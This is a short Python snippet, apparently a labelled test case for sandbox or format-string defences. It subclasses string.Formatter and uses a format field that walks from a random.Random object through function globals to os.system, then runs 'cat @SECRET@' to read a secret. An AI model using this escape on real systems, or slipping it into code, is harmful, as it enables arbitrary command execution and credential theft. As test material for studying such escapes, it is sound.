# A subclass of string.Formatter sees each object on the way.
# effect: run
import random
import string
class Walk(string.Formatter):
    def format_field(self, value, spec):
        value("cat @SECRET@")
        return ""
Walk().format("{0.choice.__func__.__globals__[_os].system}", random.Random())
